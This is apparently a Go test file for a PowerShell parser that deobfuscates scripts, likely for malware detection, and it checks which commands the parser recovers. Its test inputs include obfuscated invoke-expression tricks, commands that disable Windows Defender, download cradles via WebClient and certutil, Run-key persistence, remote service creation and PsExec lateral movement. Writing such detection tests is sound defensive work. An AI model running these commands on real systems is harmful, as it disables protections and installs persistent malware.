package pwsh

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

func names(r *Result) []string {
	var out []string
	for _, c := range r.Commands {
		out = append(out, c.Name+" "+strings.Join(c.Args, " "))
	}
	return out
}

func has(r *Result, want string) bool {
	for _, n := range names(r) {
		if strings.HasPrefix(n, want) {
			return true
		}
	}
	return false
}

func enc16(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, x := range u {
		b[2*i], b[2*i+1] = byte(x), byte(x>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestParse(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString([]byte("Set-MpPreference -DisableRealtimeMonitoring $true"))
	cases := []struct{ src, want string }{
		{"Get-ChildItem -Path C:\\ | Where-Object { $_.Length -gt 1kb }", "get-childitem -path C:\\"},
		{"Get-ChildItem | Where-Object { $_.Length -gt 1kb }", "where-object"},
		{"iex 'Get-Process'", "get-process"},
		{"I`E`X ('Get-'+'Process')", "get-process"},
		{"& ('i'+'ex') \"Stop-Service WinDefend\"", "stop-service WinDefend"},
		{"$c = 'Remove-Item'; & $c C:\\x -Recurse", "remove-item C:\\x -recurse"},
		{"& $env:TEMP\\u\\setup.exe -q", "setup -q"},
		{"sal x iex; x 'whoami /all'", "whoami /all"},
		{"Set-Alias -Name q -Value Invoke-Expression; q 'net user'", "net user"},
		{"('{1}{0}' -f 'ocess','Get-Pr') | iex", "get-process"},
		{"iex ([char[]](71,101,116,45,80,114,111,99,101,115,115) -join '')", "get-process"},
		{"iex (-join ([char]71,[char]101,[char]116,[char]45,[char]80,[char]114,[char]111,[char]99,[char]101,[char]115,[char]115))", "get-process"},
		{"iex ('ssecorP-teG'[-1..-11] -join '')", "get-process"},
		{"$a='ssecorP-teG'.ToCharArray(); [Array]::Reverse($a); iex ($a -join '')", "get-process"},
		{"$s='x+e+i'.Split('+'); [array]::Reverse($s); &($s -join '') 'Get-Process'", "get-process"},
		{"$pshome[4]+$pshome[30]+'x' | Out-Null; &($pshome[4]+$pshome[30]+'x') 'Get-Process'", "get-process"},
		{"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64 + "')))", "set-mppreference -disablerealtimemonitoring"},
		{"[ScriptBlock]::Create('Get-Process').Invoke()", "get-process"},
		{"$p = @{Name='Run'; Value='C:\\u.exe'}; New-ItemProperty @p", "new-itemproperty -name Run -value C:\\u.exe"},
		{"('71,101,116,45,80,114,111,99,101,115,115'.Split(',') | % {[char][int]$_}) -join '' | iex", "get-process"},
		{"(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", ".downloadstring http://192.0.2.1/a"},
		{"iex \"$('Get'+'-Process')\"", "get-process"},
		{"'Get-Process'.Replace('Get','Stop') | iex", "stop-process"},
		{"sc.exe \\\\fs01 create upd binpath= C:\\x.exe; Start-Sleep 5", "sc \\\\fs01 create upd"},
		{"sc C:\\notes.txt 'hello'", "set-content C:\\notes.txt"},
		{"curl.exe -s https://example.org", "curl -s"},
		{".\\PsExec64.exe -accepteula \\\\#{pivot_host} -i #{user.session.id} -d -c C:\\x.exe", "psexec64 -accepteula \\\\#{pivot_host} -i #{user.session.id} -d -c"},
		{"Get-Process # a comment -Name x", "get-process"},
		{"cmd /c \"whoami\"", "cmd /c whoami"},
		{"C:\\Windows\\System32\\certutil.exe /urlcache /f http://x/a.exe a.exe", "certutil /urlcache /f http://x/a.exe"},
		{"function f { param($a) Remove-Item $a -Recurse }; f", "remove-item"},
		{"if ($true) { Stop-Service WinDefend } else { Get-Service }", "stop-service WinDefend"},
		{"$x = \"Stop\"; iex \"$x-Service WinDefend\"", "stop-service WinDefend"},
		{"iex ('Get-Process' -replace 'Get','Stop')", "stop-process"},
		{"[System.Diagnostics.Process]::Start('cmd.exe','/c calc')", "diagnostics.process::start cmd.exe /c calc"},
		{"Invoke-Command -ComputerName h1 -ScriptBlock { Get-Process }", "get-process"},
		{"@'\nStop-Service WinDefend\n'@ | iex", "stop-service WinDefend"},
		{"$f = ChildItem -Path $env:USERPROFILE -Recurse", "get-childitem -path"},
		{"Clipboard -Raw", "get-clipboard -raw"},
		{"rundll32 C:\\Users\\Public\\a.dll,Go", "rundll32 C:\\Users\\Public\\a.dll,Go"},
		{"rundll32.exe shell32.dll, Control_RunDLL desk.cpl", "rundll32 shell32.dll,Control_RunDLL desk.cpl"},
		{"cmd /c rundll32 b.dll,Run 1,2", "cmd /c rundll32 b.dll,Run 1,2"},
		{"$d = 'x.dll'; rundll32 $d,Main", "rundll32 x.dll,Main"},
		{"Get-Process -Name a,b | Stop-Process", "get-process -name a b"},
		{"Start-Process cmd -ArgumentList '/c','whoami'", "start-process cmd -argumentlist /c whoami"},
		{"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d \"C:\\a b\\x.exe\" /f", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\a b\\x.exe /f"},
	}
	for _, c := range cases {
		r := Parse(c.src)
		if !has(r, c.want) {
			t.Errorf("Parse(%q): want %q in %q", c.src, c.want, names(r))
		}
	}
}

func TestDecodeUTF16LE(t *testing.T) {
	if got := DecodeUTF16LE(enc16("Get-Process")); got != "Get-Process" {
		t.Fatalf("got %q", got)
	}
	if DecodeUTF16LE("!!!") != "" {
		t.Fatal("bad base64 decoded")
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"iex ('a'+'b')", "$x=@{a=1}; f @x", "[char[]](1,2) -join ''", "@'\nx\n'@", "(((", "{{{", "$(", "`", "'", "\"$(\"", "1..100000", "'a'*99999999"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := Parse(s)
		for _, c := range r.Commands {
			if c.Start < 0 || c.End > len(s) || c.Start > c.End {
				t.Fatalf("bad span %d-%d for %q in %d bytes", c.Start, c.End, c.Name, len(s))
			}
		}
	})
}
